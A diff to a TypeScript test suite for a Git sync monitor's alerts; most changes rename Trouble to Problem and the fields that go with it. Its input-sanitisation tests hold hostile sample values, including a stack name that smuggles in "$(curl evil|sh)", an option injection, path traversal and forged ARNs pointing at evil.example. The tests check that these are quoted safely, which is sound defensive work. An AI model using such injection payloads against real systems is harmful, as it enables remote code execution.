@@ -1,6 +1,6 @@
 import { quoted } from '../../../src/handlers/client/text';
 import type { MonitorEvent } from '../../../src/handlers/sync-monitor/change';
-import type { Trouble } from '../../../src/handlers/sync-monitor/judge';
+import type { Problem } from '../../../src/handlers/sync-monitor/judge';
 import { detailOf, messageOf } from '../../../src/handlers/sync-monitor/messages';
 import type { Announcement } from '../../../src/handlers/sync-monitor/remember';
 import { ACCOUNT, FINDINGS, type MonitorRig, REGION, TOPIC } from './monitor-rig';
@@ -50,7 +50,7 @@ describe('a mail', () => {
   });
 
   test('of what is over is sent only when wanted', async () => {
-    rig.notifyWhenOver = false;
+    rig.notifyOnResolved = false;
     const id = await blocked();
     await world.resolve('prod', id);
     rig.pass(1);
@@ -59,7 +59,7 @@ describe('a mail', () => {
     expect(rig.news).toEqual(['+SYNC_BLOCKED', '-SYNC_BLOCKED RESOLVED']);
   });
 
-  test('of what another trouble has replaced is not sent: that has its own', async () => {
+  test('of what another problem has replaced is not sent: that has its own', async () => {
     const link = await world.syncedStack();
     for (const failure of ['first', 'second']) {
       world.push(link, { failure });
@@ -104,7 +104,7 @@ describe('two channels', () => {
 
   test('an event bus that is down costs the topic nothing, likewise', async () => {
     rig.unwantedEvents = Number.POSITIVE_INFINITY;
-    await expect(blocked()).rejects.toThrow('the event bus troubles did not take 1 of 1 messages');
+    await expect(blocked()).rejects.toThrow('the event bus problems did not take 1 of 1 messages');
     for (let poll = 0; poll < 4; poll += 1) await rig.run().catch(() => {});
     expect([rig.news, subjects()]).toEqual([[], [BLOCKED]]);
     rig.unwantedEvents = 0;
@@ -114,7 +114,7 @@ describe('two channels', () => {
 
   test('both down: the failure names both', async () => {
     rig.unwantedEvents = rig.unwantedMails = Number.POSITIVE_INFINITY;
-    await expect(blocked()).rejects.toThrow(/the event bus troubles did not take.*; the topic .* did not take/);
+    await expect(blocked()).rejects.toThrow(/the event bus problems did not take.*; the topic .* did not take/);
   });
 
   test('a topic that is denied does not take the time of the run', async () => {
@@ -140,34 +140,34 @@ describe('two channels', () => {
 });
 
 describe('a central bus', () => {
-  const kinds = () => rig.findings.map(({ detail }) => detail);
+  const kinds = () => rig.central.map(({ detail }) => detail);
 
   test('is told the same as the bus of the account, in its own Region', async () => {
-    rig.findingsBus = FINDINGS;
+    rig.centralEventBus = FINDINGS;
     const id = await blocked();
     await world.resolve('prod', id);
     rig.pass(1);
     await rig.run();
     expect(rig.news).toEqual(['+SYNC_BLOCKED', '-SYNC_BLOCKED RESOLVED']);
     expect(kinds()).toEqual(rig.told.map(({ detail }) => detail));
-    expect(rig.findings.map(({ began }) => began)).toEqual([true, false]);
+    expect(rig.central.map(({ began }) => began)).toEqual([true, false]);
   });
 
   test('that is down costs the others nothing, and is told later', async () => {
-    rig.findingsBus = FINDINGS;
-    rig.findingsDown = true;
+    rig.centralEventBus = FINDINGS;
+    rig.centralBusDown = true;
     await expect(blocked()).rejects.toThrow(`the event bus ${FINDINGS} did not take 1 of 1 messages`);
     for (let poll = 0; poll < 4; poll += 1) await rig.run().catch(() => {});
     expect([rig.news, subjects(), kinds()]).toEqual([['+SYNC_BLOCKED'], [BLOCKED], []]);
-    rig.findingsDown = false;
+    rig.centralBusDown = false;
     for (let poll = 0; poll < 2; poll += 1) await rig.run();
     expect(kinds()).toMatchObject([{ kind: 'SYNC_BLOCKED' }]);
   });
 
   test('is told nothing of what was put on the bus of the account by others', async () => {
-    rig.findingsBus = FINDINGS;
-    await rig.run({ 'detail-type': 'Git Sync Trouble Began', account: ACCOUNT, region: REGION, detail: {} });
-    expect(rig.findings).toEqual([]);
+    rig.centralEventBus = FINDINGS;
+    await rig.run({ 'detail-type': 'Git Sync Problem Detected', account: ACCOUNT, region: REGION, detail: {} });
+    expect(rig.central).toEqual([]);
   });
 });
 
@@ -252,7 +252,7 @@ describe('words of others', () => {
     expect(lines()[1]).toHaveLength('Reason: ""'.length + 300);
   });
 
-  test.each<[string, Partial<Trouble>]>([
+  test.each<[string, Partial<Problem>]>([
     ['a name of a stack', { stackName: "prod' $(curl evil|sh) '" }],
     ['a name of a stack that begins as an option', { stackName: '--endpoint-url=https://evil.example' }],
     ['a name of a stack that is a link', { stackName: 'https://evil.example' }],
@@ -268,7 +268,7 @@ describe('words of others', () => {
     for (const value of Object.values(part)) expect(message.replaceAll(quoted(String(value)), '')).not.toContain(value);
   });
 
-  test.each<[string, Partial<Trouble>]>([
+  test.each<[string, Partial<Problem>]>([
     ['a stack', { kind: 'SYNC_FAILED', stackName: 'x/../../evil' }],
     [
       'a connection',
@@ -290,7 +290,7 @@ describe('words of others', () => {
       `arn:aws:codeconnections:${REGION}:${ACCOUNT}:connection/1/www.evil.example`,
       `arn:aws:codeconnections:${REGION}:111122223333:connection/1`,
       `arn:aws-cn:codeconnections:${REGION}:${ACCOUNT}:connection/1`,
-    ].map((arn): [string, Partial<Trouble>] => [arn, { kind: 'CONNECTION_UNAVAILABLE', connectionArn: arn }]),
+    ].map((arn): [string, Partial<Problem>] => [arn, { kind: 'CONNECTION_UNAVAILABLE', connectionArn: arn }]),
   ])('make no link: %s', (_, part) => {
     const { detail, message } = told(part, { stackName: undefined });
     if (part.connectionArn) expect(message.split('\n')[0]).toContain(`connection "${part.connectionArn}" is`);
@@ -299,13 +299,13 @@ describe('words of others', () => {
     );
   });
 
-  test.each<[string, Partial<Trouble>]>([
+  test.each<[string, Partial<Problem>]>([
     ['branch', { kind: 'SYNC_FAILED', branch: FORGED }],
     ['repository', { kind: 'REPOSITORY_SYNC_FAILED', repository: FORGED }],
     ['commit', { kind: 'SYNC_FAILED', commit: FORGED }],
     ['host', { kind: 'HOST_UNAVAILABLE', hostArn: `arn:aws:codeconnections:${REGION}:${ACCOUNT}:host/${FORGED}` }],
     ['ARN', { kind: 'HOST_UNAVAILABLE', hostArn: `arn:aws:https://evil.example/${FORGED}` }],
-    ['operation', { kind: 'MONITOR_BLIND', operation: FORGED }],
+    ['operation', { kind: 'INCOMPLETE_POLL', operation: FORGED }],
   ])('stay words in a title: %s', (_, part) => {
     const { detail, message } = told(part);
     const [title] = message.split('\n');
@@ -321,7 +321,7 @@ test('no field of an event has a double quote, which a rule may not escape', () 
   const { detail } = told({ ...part, kind: 'SYNC_BLOCKED', blockerContexts: { [quotes]: quotes } });
   const { message, ...fields } = detail;
   expect(message).not.toContain('"');
-  for (const text of [fields.branch, fields.repository, fields.commit, fields.reason, fields.troubleId]) {
+  for (const text of [fields.branch, fields.repository, fields.commit, fields.reason, fields.problemId]) {
     expect(text).toBe("a 'b' 'c' d");
   }
   expect(fields.blockerContexts).toEqual({ "a 'b' 'c' d": "a 'b' 'c' d" });
@@ -338,8 +338,8 @@ test('an event tells of nothing but where to look: what is told comes from the s
   expect(JSON.stringify([rig.mails, rig.told])).not.toContain('evil');
 });
 
-function told(part: Partial<Trouble>, other: Partial<Trouble> = {}) {
-  const trouble: Trouble = {
+function told(part: Partial<Problem>, other: Partial<Problem> = {}) {
+  const problem: Problem = {
     id: '1',
     scope: 'stack prod',
     kind: 'SYNC_FAILED',
@@ -353,7 +353,7 @@ function told(part: Partial<Trouble>, other: Partial<Trouble> = {}) {
     ...other,
     ...part,
   };
-  const announcement: Announcement = { channel: 'topic', at: 0, trouble, by: 'run', until: 0 };
+  const announcement: Announcement = { channel: 'topic', at: 0, problem, by: 'run', until: 0 };
   const home = { partition: 'aws', account: ACCOUNT, region: REGION };
   return { detail: detailOf(announcement, home), message: messageOf(announcement, home) };
 }
